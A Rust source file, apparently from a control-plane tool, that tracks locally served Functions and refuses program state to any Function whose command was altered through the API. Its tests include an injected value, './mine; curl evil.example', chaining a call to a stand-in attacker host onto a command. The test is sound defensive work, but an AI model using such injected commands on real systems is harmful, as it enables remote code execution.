//! Functions that programs on this machine serve.
//!
//! The process that runs the controllers starts the programs, and lists them here: `ferroplane up` does, for Functions in files that its
//! user names. The controllers only call them.
//!
//! # Invariants
//! * Nothing that is written through the API starts a program, or sets its address: a user who may write a Function must not be able to
//!   run code on this machine.

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Mutex, MutexGuard, PoisonError};

use ferroplane_api::{Object, keys, meta};
use ferroplane_engine::LocalProgram;
use tokio::sync::watch;

/// The functions that programs on this machine serve, by the names of their Functions.
#[derive(Debug, Default)]
pub struct LocalFunctions {
    functions: Mutex<BTreeMap<String, LocalFunction>>,
    /// Whether the files with Functions are still to be read.
    is_awaited: AtomicBool,
    /// How often they have changed.
    changes: watch::Sender<u64>,
}

/// A function that a program on this machine serves.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LocalFunction {
    /// The command in the annotation of the Function. A Function with another command is not this one.
    pub command: String,
    pub state: LocalProgram,
}

impl LocalFunctions {
    /// Add a function, or update the state of its program.
    pub fn set(&self, name: &str, function: LocalFunction) {
        let mut functions = self.lock();
        if functions.get(name) == Some(&function) {
            return;
        }
        functions.insert(name.to_owned(), function);
        // Released first: receivers of the change read the functions at once.
        drop(functions);
        self.changes.send_modify(|changes| *changes += 1);
    }

    /// Remove a function.
    pub fn remove(&self, name: &str) {
        if self.lock().remove(name).is_some() {
            self.changes.send_modify(|changes| *changes += 1);
        }
    }

    /// Functions of files will be added. Until then, any Function that names a command may be one of them.
    pub fn await_files(&self) {
        self.is_awaited.store(true, Ordering::Release);
    }

    /// The Functions of all files are added.
    pub fn complete(&self) {
        if self.is_awaited.swap(false, Ordering::AcqRel) {
            self.changes.send_modify(|changes| *changes += 1);
        }
    }

    /// Whether the Functions of files are still to be added.
    pub(crate) fn is_awaited(&self) -> bool {
        self.is_awaited.load(Ordering::Acquire)
    }

    /// Whether a Function is one of a file, or may be one. Its command may have been changed through the API.
    pub(crate) fn may_be_of_file(&self, function: &Object) -> bool {
        self.is_awaited() || self.lock().contains_key(meta::name(function))
    }

    /// Increases with every change.
    pub(crate) fn version(&self) -> u64 {
        *self.changes.borrow()
    }

    pub(crate) fn changes(&self) -> watch::Receiver<u64> {
        self.changes.subscribe()
    }

    /// The state of the program of a Function. None if none was started for it.
    pub(crate) fn state_of(&self, function: &Object) -> Option<LocalProgram> {
        let functions = self.lock();
        let local = functions.get(meta::name(function))?;
        (local.command == command_of(function)?).then(|| local.state.clone())
    }

    fn lock(&self) -> MutexGuard<'_, BTreeMap<String, LocalFunction>> {
        self.functions.lock().unwrap_or_else(PoisonError::into_inner)
    }
}

/// The command that a Function names, if it names one.
pub(crate) fn command_of(function: &Object) -> Option<&str> {
    Some(meta::annotation(function, keys::FUNCTION_COMMAND)).filter(|command| !command.is_empty())
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn function_whose_command_was_changed_through_the_api_has_no_program() {
        let functions = LocalFunctions::default();
        functions.set("mine", LocalFunction { command: "./mine".to_owned(), state: LocalProgram::Starting });
        let function = |command: &str| {
            let annotations = json!({keys::FUNCTION_COMMAND: command});
            json!({"metadata": {"name": "mine", "annotations": annotations}}).as_object().cloned().unwrap()
        };
        assert_eq!(functions.state_of(&function("./mine")), Some(LocalProgram::Starting));
        assert_eq!(functions.state_of(&function("./mine; curl evil.example")), None);
        assert_eq!(functions.state_of(&function("")), None);
    }

    #[test]
    fn function_that_is_in_no_file_is_known_when_all_files_were_read() {
        let functions = LocalFunctions::default();
        let function = |name: &str| json!({"metadata": {"name": name}}).as_object().cloned().unwrap();
        assert!(!functions.may_be_of_file(&function("mine")));
        functions.await_files();
        assert!(functions.may_be_of_file(&function("mine")) && functions.may_be_of_file(&function("other")));
        functions.set("mine", LocalFunction { command: "./mine".to_owned(), state: LocalProgram::Starting });
        let before = functions.version();
        functions.complete();
        assert!(functions.may_be_of_file(&function("mine")) && !functions.may_be_of_file(&function("other")));
        assert_eq!(functions.version(), before + 1);
    }
}
